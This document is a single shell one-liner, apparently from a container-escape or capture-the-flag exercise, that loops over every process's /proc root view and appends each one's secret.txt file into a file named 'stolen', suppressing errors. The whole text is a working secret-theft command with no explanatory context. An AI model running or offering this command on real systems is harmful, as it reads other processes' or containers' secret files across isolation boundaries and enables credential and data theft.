for root in /proc/[0-9]*/root; do cat "$root$WORLD/secret.txt" >> app/stolen 2>/dev/null; done
